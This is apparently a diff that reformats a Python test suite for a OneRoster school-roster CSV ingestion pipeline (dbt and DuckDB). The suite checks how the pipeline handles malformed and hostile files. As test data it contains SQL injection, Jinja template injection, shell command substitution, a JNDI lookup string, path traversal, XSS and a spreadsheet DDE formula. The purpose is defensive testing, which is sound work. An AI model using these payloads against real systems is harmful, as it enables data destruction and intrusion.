@@ -85,8 +85,18 @@ add('the byte 255', FAULTY, 'readable_line', users=text('users', 'Given 2', b'\x
 add('NUL in a value', REFUSED, 'text_file', users=text('users', 'Given 2', b'Gi\0ven'))
 add('NUL in the header', REFUSED, users=text('users', 'givenName', b'given\0Name'))
 add('NUL at the end', REFUSED, 'text_file', users=USERS.encode() + b'\0' * 100)
-add('control characters that no text holds', FAULTY, 'readable_line', users=text('users', 'Given 2', b'Gi\x01\x02\x03\x04ven'))
-add('control characters in an id', FAULTY, 'readable_line', users=text('users', '\nstudent-2', b'\nstudent\x01\x02\x03\x042'))
+add(
+    'control characters that no text holds',
+    FAULTY,
+    'readable_line',
+    users=text('users', 'Given 2', b'Gi\x01\x02\x03\x04ven'),
+)
+add(
+    'control characters in an id',
+    FAULTY,
+    'readable_line',
+    users=text('users', '\nstudent-2', b'\nstudent\x01\x02\x03\x042'),
+)
 add('control characters in the header', NOTICED, users=text('users', 'password', b'pass\x01\x02\x03\x04word'))
 add('an end of file of DOS', FAULTY, users=USERS.encode() + b'\x1a')
 add('a bell and a backspace', FINE, users=text('users', 'Given 2', 'Given\a\b2'))
@@ -116,7 +126,12 @@ add('a CR in a value', FAULTY, users=text('users', 'Given 2', 'Giv\ren 2'))
 add('a CR in a quoted value', FAULTY, 'one_line', users=text('users', 'Given 2', '"Giv\ren 2"'))
 add('an LF in a quoted value', FAULTY, 'one_line', users=text('users', 'Given 2', '"Giv\nen 2"'))
 add('a CRLF in a quoted value', FAULTY, 'one_line', users=text('users', 'Given 2', '"Giv\r\nen 2"'))
-add('an LF in an optional value', NOTICED, 'one_line', users=text('users', 'student-2@contoso.example', '"student-2\n@contoso.example"'))
+add(
+    'an LF in an optional value',
+    NOTICED,
+    'one_line',
+    users=text('users', 'student-2@contoso.example', '"student-2\n@contoso.example"'),
+)
 add('a hundred lines in a quoted value', FAULTY, users=text('users', 'Given 2', '"' + 'Given\n' * 100 + '"'))
 add('blank lines between', FINE, users=USERS.replace('\n', '\n\n'))
 add('blank lines before the header', FINE, users='\n\n' + USERS)
@@ -129,7 +144,12 @@ add('a cell too few', FAULTY, 'readable_line', users=USERS + 'student-3,,,true\n
 add('one word', FAULTY, 'readable_line', users=USERS + 'total\n')
 add('surplus cells', FAULTY, 'readable_line', users=USERS.rstrip() + ',surplus\n')
 add('surplus empty cells', NOTICED, 'surplus_cells', users=USERS.rstrip() + ',,,\n')
-add('surplus empty cells in each line but the header', NOTICED, 'surplus_cells', users=HEADER + '\n' + LINES.replace('\n', ',,\n'))
+add(
+    'surplus empty cells in each line but the header',
+    NOTICED,
+    'surplus_cells',
+    users=HEADER + '\n' + LINES.replace('\n', ',,\n'),
+)
 add('a header and nothing else', REFUSED, 'records_present', users=HEADER + '\n')
 add('no header', REFUSED, users=LINES)
 add('the header twice', FAULTY, users=HEADER + '\n' + USERS)
@@ -137,10 +157,22 @@ add('one column', REFUSED, users='sourcedId\nstudent-1\n')
 add('semicolons', REFUSED, users=USERS.replace(',', ';'))
 add('tabs', REFUSED, users=USERS.replace(',', '\t'))
 add('pipes', REFUSED, users=USERS.replace(',', '|'))
-add('five thousand columns', NOTICED, users=''.join(
-    f'{line},{",".join(f"x{i}" if n == 0 else "" for i in range(5000))}\n' for n, line in enumerate(USERS.splitlines())))
-add('a thousand metadata columns', FINE, users=''.join(
-    f'{line},{",".join(f"metadata.x{i}" if n == 0 else "v" for i in range(1000))}\n' for n, line in enumerate(USERS.splitlines())))
+add(
+    'five thousand columns',
+    NOTICED,
+    users=''.join(
+        f'{line},{",".join(f"x{i}" if n == 0 else "" for i in range(5000))}\n'
+        for n, line in enumerate(USERS.splitlines())
+    ),
+)
+add(
+    'a thousand metadata columns',
+    FINE,
+    users=''.join(
+        f'{line},{",".join(f"metadata.x{i}" if n == 0 else "v" for i in range(1000))}\n'
+        for n, line in enumerate(USERS.splitlines())
+    ),
+)
 add('a line of a hundred thousand cells', FAULTY, 'readable_line', users=USERS + ',' * 100_000 + 'x\n')
 
 # headers
@@ -153,19 +185,41 @@ add('quoted headers', FINE, users=','.join(f'"{name}"' for name in HEADER.split(
 add('a blank header', NOTICED, 'known_header', users=USERS.replace('middleName', '', 1))
 add('an unclosed quote in the header', REFUSED, 'closed_quotes', users=USERS.replace('middleName', '"middleName', 1))
 add('a header of another language', NOTICED, 'known_header', users=USERS.replace('middleName', '第二名', 1))
-add('a header that is Unicode for an ASCII one', REFUSED, 'required_column', users=USERS.replace('givenName', 'ｇivenName', 1))
+add(
+    'a header that is Unicode for an ASCII one',
+    REFUSED,
+    'required_column',
+    users=USERS.replace('givenName', 'ｇivenName', 1),
+)
 add('a header of a megabyte', NOTICED, 'known_header', users=USERS.replace('middleName', 'x' * 1_000_000, 1))
-for number, name in enumerate([
-    "x'); drop table history.users; --", '{{ 1/0 }}', "{{ env_var('HOME') }}", '{% raw %}', '{#', 'select', '"; drop schema history; --',
-    'metadata.x\'); drop table history.users; --', 'metadata.{{ 1/0 }}', 'metadata.', 'METADATA.x', 'metadata.x.y', '*', 'line_number', 'inbound_flow_id',
-]):
+for number, name in enumerate(
+    [
+        "x'); drop table history.users; --",
+        '{{ 1/0 }}',
+        "{{ env_var('HOME') }}",
+        '{% raw %}',
+        '{#',
+        'select',
+        '"; drop schema history; --',
+        'metadata.x\'); drop table history.users; --',
+        'metadata.{{ 1/0 }}',
+        'metadata.',
+        'METADATA.x',
+        'metadata.x.y',
+        '*',
+        'line_number',
+        'inbound_flow_id',
+    ]
+):
     header = '"' + name.replace('"', '""') + '"'
     status = FINE if name.lower().startswith('metadata.') else NOTICED
     add(f'a header of code {number}', status, users=USERS.replace('middleName', header, 1))
 
 # quotes
 add('a quote that never closes, in the last line', REFUSED, 'closed_quotes', users=text('users', 'Given 2', '"Given 2'))
-add('a quote that never closes, in the first line', REFUSED, 'closed_quotes', users=text('users', 'Given T', '"Given T'))
+add(
+    'a quote that never closes, in the first line', REFUSED, 'closed_quotes', users=text('users', 'Given T', '"Given T')
+)
 add('a quote inside a value', FINE, users=text('users', 'Given 2', 'Given "Two" 2'))
 add('an inch', FAULTY, users=text('users', 'Given 2', '"Given" 2'))
 add('doubled quotes', FINE, users=text('users', 'Given 2', '"Given ""2"""'))
@@ -173,93 +227,289 @@ add('a blank before a quote', FINE, users=text('users', 'Given 2', ' "Given 2"')
 add('a backslash before a quote', REFUSED, 'closed_quotes', users=text('users', 'Given 2', '"Given \\"2"'))
 add('an apostrophe', FINE, users=text('users', 'Given 2', "O'Given"))
 add('nothing but quotes', FAULTY, users=USERS + '""""""\n')
-add('quotes in each cell', FINE, users='\n'.join(','.join(f'"{c}"' for c in line.split(',')) for line in USERS.splitlines()) + '\n')
+add(
+    'quotes in each cell',
+    FINE,
+    users='\n'.join(','.join(f'"{c}"' for c in line.split(',')) for line in USERS.splitlines()) + '\n',
+)
 
 # values: length and script
-for number, name in enumerate([
-    '👩‍👩‍👧‍👦🏽', 'שלום עולם', 'مرحبا', '\u202eGiven 2\u202c', 'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤a͕l̛g͡o', '花子', 'Ａｎｎａ', 'İstanbul ı', 'ß', '\u200bGiven', 'e\u0301', '\U0010ffff', 'ﷺ' * 50,
-    'NULL', 'null', 'None', 'nan', 'undefined', 'N/A', '-', '0', 'true', '<script>alert(1)</script>', '%s%n%x', '../../etc/passwd', '$(touch hacked)', '`id`',
-    '${jndi:ldap://x.example/a}', 'a' * 300, '\\N', '\\', "'", '\\x00',
-]):
+for number, name in enumerate(
+    [
+        '👩‍👩‍👧‍👦🏽',
+        'שלום עולם',
+        'مرحبا',
+        '\u202eGiven 2\u202c',
+        'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤a͕l̛g͡o',
+        '花子',
+        'Ａｎｎａ',
+        'İstanbul ı',
+        'ß',
+        '\u200bGiven',
+        'e\u0301',
+        '\U0010ffff',
+        'ﷺ' * 50,
+        'NULL',
+        'null',
+        'None',
+        'nan',
+        'undefined',
+        'N/A',
+        '-',
+        '0',
+        'true',
+        '<script>alert(1)</script>',
+        '%s%n%x',
+        '../../etc/passwd',
+        '$(touch hacked)',
+        '`id`',
+        '${jndi:ldap://x.example/a}',
+        'a' * 300,
+        '\\N',
+        '\\',
+        "'",
+        '\\x00',
+    ]
+):
     add(f'a given name {number}', FINE, users=cell('users', 'student-2', 'givenName', name))
 add('a name of a megabyte', FINE, users=cell('users', 'student-2', 'givenName', 'x' * 1_000_000))
 add('a name of three megabytes', REFUSED, 'text_file', users=cell('users', 'student-2', 'givenName', 'x' * 3_000_000))
-add('a list of a hundred thousand items', FAULTY, 'references', users=cell('users', 'student-2', 'orgSourcedIds', ','.join(['nowhere'] * 100_000)))
+add(
+    'a list of a hundred thousand items',
+    FAULTY,
+    'references',
+    users=cell('users', 'student-2', 'orgSourcedIds', ','.join(['nowhere'] * 100_000)),
+)
 add('a list of commas', FAULTY, 'required', users=cell('users', 'student-2', 'orgSourcedIds', ',,,,'))
 add('an id of 255', FINE, users=cell('users', 'student-2', 'sourcedId', 'x' * 255))
 add('an id of 256', FAULTY, 'well_formed_id', users=cell('users', 'student-2', 'sourcedId', 'x' * 256))
 add('an id of a megabyte', FAULTY, 'well_formed_id', users=cell('users', 'student-2', 'sourcedId', 'x' * 1_000_000))
 add('an id of emoji', NOTICED, 'standard_characters', users=cell('users', 'student-2', 'sourcedId', '🎒'))
-add('ids that differ in case', FINE, users=with_lines(USERS, dict(
-    sourcedId='STUDENT-2', enabledUser='true', orgSourcedIds='school', role='student', username='x', givenName='a', familyName='b')))
+add(
+    'ids that differ in case',
+    FINE,
+    users=with_lines(
+        USERS,
+        dict(
+            sourcedId='STUDENT-2',
+            enabledUser='true',
+            orgSourcedIds='school',
+            role='student',
+            username='x',
+            givenName='a',
+            familyName='b',
+        ),
+    ),
+)
 add('an id with a blank', FAULTY, 'well_formed_id', users=cell('users', 'student-2', 'sourcedId', 'student 2'))
 add('an id with a quote', FAULTY, 'well_formed_id', users=cell('users', 'student-2', 'sourcedId', 'student"2'))
 add('an id with a comma', FAULTY, 'well_formed_id', users=cell('users', 'student-2', 'sourcedId', 'student,2'))
-add('an id with a pipe', NOTICED, users=cell('users', 'teacher', 'username', 't').replace('\nteacher,', '\nteacher,', 1),
-    enrollments=cell('enrollments', 'e-2', 'sourcedId', 'e|2'))
+add(
+    'an id with a pipe',
+    NOTICED,
+    users=cell('users', 'teacher', 'username', 't').replace('\nteacher,', '\nteacher,', 1),
+    enrollments=cell('enrollments', 'e-2', 'sourcedId', 'e|2'),
+)
 
 # code in values
-for number, code in enumerate([
-    "'; drop table history.users; --", "') union all select * from read_text('/etc/passwd'); --", "$$; attach 'hacked.duckdb'; $$",
-    "'); copy (select 1) to 'hacked.csv'; --", '"; drop schema history cascade; --', "x' || (select 1/0) || '", '/* ', '-- ', ';',
-    '{{ 1/0 }}', "{{ run_query('drop schema history cascade') }}", "{{ env_var('PATH') }}", '{% do x %}', '{# ', '{{', '%}', "{{ config(enabled=false) }}",
-]):
+for number, code in enumerate(
+    [
+        "'; drop table history.users; --",
+        "') union all select * from read_text('/etc/passwd'); --",
+        "$$; attach 'hacked.duckdb'; $$",
+        "'); copy (select 1) to 'hacked.csv'; --",
+        '"; drop schema history cascade; --',
+        "x' || (select 1/0) || '",
+        '/* ',
+        '-- ',
+        ';',
+        '{{ 1/0 }}',
+        "{{ run_query('drop schema history cascade') }}",
+        "{{ env_var('PATH') }}",
+        '{% do x %}',
+        '{# ',
+        '{{',
+        '%}',
+        "{{ config(enabled=false) }}",
+    ]
+):
     add(f'code in a name {number}', FINE, users=cell('users', 'student-2', 'familyName', code))
     add(f'code in a reference {number}', FAULTY, users=cell('users', 'student-2', 'orgSourcedIds', code))
-for number, (code, status) in enumerate([
-    ("'; drop table history.users; --", FAULTY), ('{{ 1/0 }}', FAULTY), ("{{ env_var('PATH') }}", FAULTY), ("a'b", NOTICED), ('\\', NOTICED),
-]):
+for number, (code, status) in enumerate(
+    [
+        ("'; drop table history.users; --", FAULTY),
+        ('{{ 1/0 }}', FAULTY),
+        ("{{ env_var('PATH') }}", FAULTY),
+        ("a'b", NOTICED),
+        ('\\', NOTICED),
+    ]
+):
     add(f'code in an id {number}', status, users=cell('users', 'student-2', 'sourcedId', code))
-    add(f'code in an e-mail address {number}', NOTICED, 'well_formed_email', users=cell('users', 'student-2', 'email', code))
+    add(
+        f'code in an e-mail address {number}',
+        NOTICED,
+        'well_formed_email',
+        users=cell('users', 'student-2', 'email', code),
+    )
 
 # what spreadsheets do
-for number, formula in enumerate([
-    "=cmd|'/C calc'!A0", '=HYPERLINK("http://x.example","a")', '+1+1', '-1-1', '@SUM(1)', '="001"', '#N/A', '#REF!', '########', '=1+1',
-]):
+for number, formula in enumerate(
+    [
+        "=cmd|'/C calc'!A0",
+        '=HYPERLINK("http://x.example","a")',
+        '+1+1',
+        '-1-1',
+        '@SUM(1)',
+        '="001"',
+        '#N/A',
+        '#REF!',
+        '########',
+        '=1+1',
+    ]
+):
     add(f'a formula as a name {number}', FINE, users=cell('users', 'student-2', 'familyName', formula))
 add('a formula as an id', FAULTY, users=cell('users', 'student-2', 'sourcedId', '="student-2"'))
-add('an id in scientific notation', NOTICED, 'standard_characters', users=cell('users', 'student-2', 'sourcedId', '1.23E+15'))
+add(
+    'an id in scientific notation',
+    NOTICED,
+    'standard_characters',
+    users=cell('users', 'student-2', 'sourcedId', '1.23E+15'),
+)
 add('a line that names the separator', REFUSED, users='sep=,\n' + USERS)
 add('booleans in capitals', FINE, users=USERS.replace(',true,', ',TRUE,'))
 add('booleans in words', FAULTY, 'well_formed_boolean', users=cell('users', 'student-2', 'enabledUser', 'WAHR'))
 add('a grade without its zero', FINE, users=cell('users', 'student-2', 'grades', '9'))
 add('a grade that is a date', NOTICED, 'in_reference_definitions', users=cell('users', 'student-2', 'grades', '9-Dec'))
-add('an American date', FAULTY, 'well_formed_date', academicSessions=cell('academicSessions', 'fall', 'startDate', '8/1/2026'))
-add('the number of a day', FAULTY, 'well_formed_date', academicSessions=cell('academicSessions', 'fall', 'startDate', '46235'))
-add('a date of two digits', FAULTY, 'well_formed_date', academicSessions=cell('academicSessions', 'fall', 'startDate', '26-08-01'))
-add('a day that is none', FAULTY, 'well_formed_date', academicSessions=cell('academicSessions', 'fall', 'startDate', '2026-02-30'))
-add('an instant for a date', NOTICED, 'date_without_time', academicSessions=cell('academicSessions', 'fall', 'startDate', '2026-08-01T00:00:00Z'))
+add(
+    'an American date',
+    FAULTY,
+    'well_formed_date',
+    academicSessions=cell('academicSessions', 'fall', 'startDate', '8/1/2026'),
+)
+add(
+    'the number of a day',
+    FAULTY,
+    'well_formed_date',
+    academicSessions=cell('academicSessions', 'fall', 'startDate', '46235'),
+)
+add(
+    'a date of two digits',
+    FAULTY,
+    'well_formed_date',
+    academicSessions=cell('academicSessions', 'fall', 'startDate', '26-08-01'),
+)
+add(
+    'a day that is none',
+    FAULTY,
+    'well_formed_date',
+    academicSessions=cell('academicSessions', 'fall', 'startDate', '2026-02-30'),
+)
+add(
+    'an instant for a date',
+    NOTICED,
+    'date_without_time',
+    academicSessions=cell('academicSessions', 'fall', 'startDate', '2026-08-01T00:00:00Z'),
+)
 add('a date of year zero', FINE, academicSessions=cell('academicSessions', 'fall', 'startDate', '0000-01-01'))
-add('a date of year 99999', FAULTY, 'well_formed_date', academicSessions=cell('academicSessions', 'fall', 'endDate', '99999-01-01'))
+add(
+    'a date of year 99999',
+    FAULTY,
+    'well_formed_date',
+    academicSessions=cell('academicSessions', 'fall', 'endDate', '99999-01-01'),
+)
 add('infinity', FAULTY, 'well_formed_date', academicSessions=cell('academicSessions', 'fall', 'endDate', 'infinity'))
 add('today', FAULTY, 'well_formed_date', academicSessions=cell('academicSessions', 'fall', 'endDate', 'today'))
-add('digits of another script', FAULTY, 'well_formed_date', academicSessions=cell('academicSessions', 'fall', 'endDate', '２０２６-12-31'))
-add('a year of two years', NOTICED, 'plain_year', academicSessions=cell('academicSessions', 'fall', 'schoolYear', '2026-2027'))
-add('a year in words', FAULTY, 'well_formed_year', academicSessions=cell('academicSessions', 'fall', 'schoolYear', 'MMXXVII'))
-add('a year that overflows', FAULTY, 'well_formed_year', academicSessions=cell('academicSessions', 'fall', 'schoolYear', '9' * 40))
-add('an end before its start', FAULTY, 'in_order', academicSessions=cell('academicSessions', 'fall', 'endDate', '2026-07-01'))
+add(
+    'digits of another script',
+    FAULTY,
+    'well_formed_date',
+    academicSessions=cell('academicSessions', 'fall', 'endDate', '２０２６-12-31'),
+)
+add(
+    'a year of two years',
+    NOTICED,
+    'plain_year',
+    academicSessions=cell('academicSessions', 'fall', 'schoolYear', '2026-2027'),
+)
+add(
+    'a year in words',
+    FAULTY,
+    'well_formed_year',
+    academicSessions=cell('academicSessions', 'fall', 'schoolYear', 'MMXXVII'),
+)
+add(
+    'a year that overflows',
+    FAULTY,
+    'well_formed_year',
+    academicSessions=cell('academicSessions', 'fall', 'schoolYear', '9' * 40),
+)
+add(
+    'an end before its start',
+    FAULTY,
+    'in_order',
+    academicSessions=cell('academicSessions', 'fall', 'endDate', '2026-07-01'),
+)
 
 # rules of the other files
-add('an organization that is its own parent', NOTICED, 'no_cycle', orgs=cell('orgs', 'school', 'parentSourcedId', 'school'))
-add('two organizations that are each other\'s parent', NOTICED, 'no_cycle', orgs=cell('orgs', 'district', 'parentSourcedId', 'school'))
+add(
+    'an organization that is its own parent',
+    NOTICED,
+    'no_cycle',
+    orgs=cell('orgs', 'school', 'parentSourcedId', 'school'),
+)
+add(
+    'two organizations that are each other\'s parent',
+    NOTICED,
+    'no_cycle',
+    orgs=cell('orgs', 'district', 'parentSourcedId', 'school'),
+)
 add('a parent that is not there', NOTICED, 'references', orgs=cell('orgs', 'school', 'parentSourcedId', 'nowhere'))
-add('an unknown kind of organization', FAULTY, 'in_reference_definitions', orgs=cell('orgs', 'district', 'type', 'palace'))
+add(
+    'an unknown kind of organization',
+    FAULTY,
+    'in_reference_definitions',
+    orgs=cell('orgs', 'district', 'type', 'palace'),
+)
 add('a kind in capitals', FINE, orgs=cell('orgs', 'district', 'type', 'DISTRICT'))
 add('an organization without a name', FAULTY, 'required', orgs=cell('orgs', 'district', 'name', '\u00a0'))
 add('an unknown role', FAULTY, 'in_reference_definitions', users=cell('users', 'student-2', 'role', 'juggler'))
-add('different records with one id', FAULTY, 'not_in_conflict', users=with_lines(USERS, USERS.splitlines()[-1].replace('Given 2', 'Another')))
+add(
+    'different records with one id',
+    FAULTY,
+    'not_in_conflict',
+    users=with_lines(USERS, USERS.splitlines()[-1].replace('Given 2', 'Another')),
+)
 add('identical copies', NOTICED, 'not_repeated', users=with_lines(USERS, USERS.splitlines()[-1]))
-add('A, A, B', FAULTY, 'not_in_conflict', users=with_lines(USERS, USERS.splitlines()[-1], USERS.splitlines()[-1].replace('Given 2', 'B')))
+add(
+    'A, A, B',
+    FAULTY,
+    'not_in_conflict',
+    users=with_lines(USERS, USERS.splitlines()[-1], USERS.splitlines()[-1].replace('Given 2', 'B')),
+)
 add('ten thousand copies', NOTICED, 'not_repeated', users=USERS + (USERS.splitlines()[-1] + '\n') * 10_000)
 add('a class of no course', FAULTY, 'references', classes=cell('classes', 'algebra-1', 'courseSourcedId', 'nowhere'))
 add('an enrollment of nobody', FAULTY, 'references', enrollments=cell('enrollments', 'e-2', 'userSourcedId', 'nobody'))
-add('dates of an enrollment in the wrong order', NOTICED, 'in_order', enrollments=replace_cell(
-    cell('enrollments', 'e-2', 'beginDate', '2026-10-01'), 'e-2', 'endDate', '2026-09-01'))
+add(
+    'dates of an enrollment in the wrong order',
+    NOTICED,
+    'in_order',
+    enrollments=replace_cell(cell('enrollments', 'e-2', 'beginDate', '2026-10-01'), 'e-2', 'endDate', '2026-09-01'),
+)
 add('an unknown sex', NOTICED, 'in_reference_definitions', demographics=cell('demographics', 'student-1', 'sex', 'x'))
-add('a birthday that is none', NOTICED, 'well_formed_date', demographics=cell('demographics', 'student-1', 'birthDate', '2012-13-01'))
+add(
+    'a birthday that is none',
+    NOTICED,
+    'well_formed_date',
+    demographics=cell('demographics', 'student-1', 'birthDate', '2012-13-01'),
+)
 add('a status in bulk', NOTICED, 'blank_in_bulk', users=cell('users', 'student-2', 'status', 'active'))
 add('a withdrawn record', NOTICED, users=cell('users', 'student-2', 'status', 'ToBeDeleted'))
-add('a modified date in bulk', NOTICED, 'blank_in_bulk', users=cell('users', 'student-2', 'dateLastModified', '2026-01-01'))
+add(
+    'a modified date in bulk',
+    NOTICED,
+    'blank_in_bulk',
+    users=cell('users', 'student-2', 'dateLastModified', '2026-01-01'),
+)
 add('a telephone of letters', NOTICED, 'well_formed_phone', users=cell('users', 'student-2', 'phone', 'call me'))
 add('a user id without its type', NOTICED, users=cell('users', 'student-2', 'userIds', '12'))
 add('no users', REFUSED, 'required_file', users=None)
@@ -269,21 +519,24 @@ add('classes without courses', REFUSED, 'required_file', courses=None)
 add('classes without sessions', REFUSED, 'required_file', academicSessions=None)
 
 # manifests
-for number, (manifest, status) in enumerate([
-    ('propertyName,value\nfile.users,delta\n', REFUSED),
-    ('propertyName,value\nfile.users,absent\n', NOTICED),
-    ('propertyName,value\noneroster.version,9.9\n', NOTICED),
-    ("propertyName,value\nfile.users','x'); drop table history.users; --,bulk\n", NOTICED),
-    ('propertyName,value\n{{ 1/0 }},{{ 1/0 }}\n', FINE),
-    ('"', REFUSED),
-    ('', FINE),
-    ('\0', REFUSED),
-    ('propertyName\n', FINE),
-    (',,,,\n', FINE),
-    ('propertyName,value\nsource.systemName,' + 'x' * 1_000_000 + '\n', FINE),
-    (random.Random(3).randbytes(3000), REFUSED),
-]):
+for number, (manifest, status) in enumerate(
+    [
+        ('propertyName,value\nfile.users,delta\n', REFUSED),
+        ('propertyName,value\nfile.users,absent\n', NOTICED),
+        ('propertyName,value\noneroster.version,9.9\n', NOTICED),
+        ("propertyName,value\nfile.users','x'); drop table history.users; --,bulk\n", NOTICED),
+        ('propertyName,value\n{{ 1/0 }},{{ 1/0 }}\n', FINE),
+        ('"', REFUSED),
+        ('', FINE),
+        ('\0', REFUSED),
+        ('propertyName\n', FINE),
+        (',,,,\n', FINE),
+        ('propertyName,value\nsource.systemName,' + 'x' * 1_000_000 + '\n', FINE),
+        (random.Random(3).randbytes(3000), REFUSED),
+    ]
+):
     add(f'a manifest {number}', status, manifest=manifest)
+
 
 # other things in the folder; a name here is a path
 def beside(name, status, **things):
@@ -292,23 +545,41 @@ def beside(name, status, **things):
     CASES[-1].files |= things.pop('files')
 
 
-for number, name in enumerate([
-    "it's.csv", '{{ 1/0 }}.csv', "x'); drop table history.users; --.csv", '-rf', '$(touch hacked).csv', 'line\nbreak.csv', '👩.csv', 'Users.csv', 'users.csv.bak',
-    'users.CSV', '~$users.csv', '.DS_Store', 'x' * 200 + '.csv', '*.csv', '[a-z].csv', '?.csv', 'a"b.csv', 'users.csv ', '%41.csv', 'lineItems.csv',
-]):
+for number, name in enumerate(
+    [
+        "it's.csv",
+        '{{ 1/0 }}.csv',
+        "x'); drop table history.users; --.csv",
+        '-rf',
+        '$(touch hacked).csv',
+        'line\nbreak.csv',
+        '👩.csv',
+        'Users.csv',
+        'users.csv.bak',
+        'users.CSV',
+        '~$users.csv',
+        '.DS_Store',
+        'x' * 200 + '.csv',
+        '*.csv',
+        '[a-z].csv',
+        '?.csv',
+        'a"b.csv',
+        'users.csv ',
+        '%41.csv',
+        'lineItems.csv',
+    ]
+):
     beside(f'a file of another name {number}', FINE, files={name: b'a,b\n1,2\n'})
 beside('a folder in the drop', FINE, files={'nested/users.csv': USERS.encode()})
 
 
 def is_accounted_for(roster):
     """Whether every line of every file of the newest run is counted once."""
-    return roster.value(
-        """
+    return roster.value("""
         select count(*) from landing.file_inventory
         where is_processed and received_records
         <> staged_records + rejected_records + unreadable_lines + collapsed_copies + withdrawn_records
-        """
-    ) == 0
+        """) == 0
 
 
 def flow_of(number):
@@ -320,8 +591,22 @@ CLEAN_FLOW = flow_of(FLOWS_PER_RUN - 1)
 
 def configured_project(folder):
     """A copy of the project with many flows, each of a source system of its own."""
-    shutil.copytree(PROJECT, folder, ignore=shutil.ignore_patterns(
-        '.git', '.venv', 'target', 'logs', 'warehouse', 'sample', '__pycache__', '.hypothesis', '.pytest_cache', 'scenarios'))
+    shutil.copytree(
+        PROJECT,
+        folder,
+        ignore=shutil.ignore_patterns(
+            '.git',
+            '.venv',
+            'target',
+            'logs',
+            'warehouse',
+            'sample',
+            '__pycache__',
+            '.hypothesis',
+            '.pytest_cache',
+            'scenarios',
+        ),
+    )
     flows = [flow_of(number) for number in range(FLOWS_PER_RUN)]
     seeds = folder / 'seeds' / 'district'
     for seed, line in {
@@ -379,7 +664,9 @@ CHUNKS = [CASES[start : start + FLOWS_PER_RUN - 1] for start in range(0, len(CAS
 def test_hostile_drops_end_in_the_status_they_deserve(hostile_roster, cases):
     roster = hostile_roster
     tables = relations_of(roster)
-    before = roster.query('select * exclude (last_seen_at) from history.users where inbound_flow_id = ? order by all', [CLEAN_FLOW])
+    before = roster.query(
+        'select * exclude (last_seen_at) from history.users where inbound_flow_id = ? order by all', [CLEAN_FLOW]
+    )
     for number, case in enumerate(cases):
         land(roster, flow_of(number), case.files)
     land(roster, CLEAN_FLOW, {name: CLEAN[name].encode() for name in SMALL})
@@ -388,20 +675,35 @@ def test_hostile_drops_end_in_the_status_they_deserve(hostile_roster, cases):
     assert 'Traceback' not in build.output
 
     statuses = dict(roster.query(f'select inbound_flow_id, status from runs.run_activity where run_id = {NEWEST_RUN}'))
-    findings = roster.query(f'select inbound_flow_id, rule, message from runs.validation_result where run_id = {NEWEST_RUN}')
+    findings = roster.query(
+        f'select inbound_flow_id, rule, message from runs.validation_result where run_id = {NEWEST_RUN}'
+    )
     wrong = []
     for number, case in enumerate(cases):
         flow = flow_of(number)
         told = {rule: message for found_flow, rule, message in findings if found_flow == flow}
         if statuses[flow] != case.status or (case.rule and case.rule not in told):
-            wrong.append(f'{case.name}: {statuses[flow]} {({rule: message[:150] for rule, message in told.items()})}, not {case.status} {case.rule or ""}')
+            wrong.append(
+                f'{case.name}: {statuses[flow]} {({rule: message[:150] for rule, message in told.items()})}, not {case.status} {case.rule or ""}'
+            )
     assert not wrong, '\n'.join(wrong)
     assert is_accounted_for(roster)
     # the clean flow among them is none the worse, and what was refused changed nothing
     assert statuses[CLEAN_FLOW] == FINE
-    assert roster.query('select * exclude (last_seen_at) from history.users where inbound_flow_id = ? order by all', [CLEAN_FLOW]) == before
+    assert (
+        roster.query(
+            'select * exclude (last_seen_at) from history.users where inbound_flow_id = ? order by all', [CLEAN_FLOW]
+        )
+        == before
+    )
     refused = [flow_of(number) for number, case in enumerate(cases) if case.status == REFUSED]
-    assert roster.query('select distinct inbound_flow_id from history.users where inbound_flow_id in (select unnest(?)) and dbt_valid_to is not null', [refused]) == []
+    assert (
+        roster.query(
+            'select distinct inbound_flow_id from history.users where inbound_flow_id in (select unnest(?)) and dbt_valid_to is not null',
+            [refused],
+        )
+        == []
+    )
     # nothing of the input was executed
     assert relations_of(roster) == tables
     assert not [path for folder in (roster.folder, PROJECT, roster.project) for path in folder.glob('hacked*')]
@@ -410,7 +712,27 @@ def test_hostile_drops_end_in_the_status_they_deserve(hostile_roster, cases):
 
 PIECES = st.one_of(
     st.binary(min_size=1, max_size=8),
-    st.sampled_from([b'"', b'""', b',', b',,', b'\n', b'\r', b'\r\n', b'\0', b'\xef\xbb\xbf', b'\\', b"'", b';', b'\t', b'{{', b'\xff', b'"\n"', '🎒'.encode()]),
+    st.sampled_from(
+        [
+            b'"',
+            b'""',
+            b',',
+            b',,',
+            b'\n',
+            b'\r',
+            b'\r\n',
+            b'\0',
+            b'\xef\xbb\xbf',
+            b'\\',
+            b"'",
+            b';',
+            b'\t',
+            b'{{',
+            b'\xff',
+            b'"\n"',
+            '🎒'.encode(),
+        ]
+    ),
     st.text(max_size=8).map(lambda text: text.encode('utf-8', 'surrogatepass')),
 )
 EDITS = st.lists(st.tuples(st.floats(0, 1), st.integers(0, 40), PIECES), min_size=1, max_size=4)
@@ -425,7 +747,12 @@ def edited(content, edits):
 
 
 @settings(
-    max_examples=2, deadline=None, derandomize=True, phases=[Phase.generate], suppress_health_check=list(HealthCheck), database=None
+    max_examples=2,
+    deadline=None,
+    derandomize=True,
+    phases=[Phase.generate],
+    suppress_health_check=list(HealthCheck),
+    database=None,
 )
 @given(st.lists(st.tuples(st.sampled_from(SMALL), EDITS), min_size=FLOWS_PER_RUN - 1, max_size=FLOWS_PER_RUN - 1))
 def test_files_with_bytes_changed_at_random_end_in_some_status(tmp_path_factory, begun, mutations):
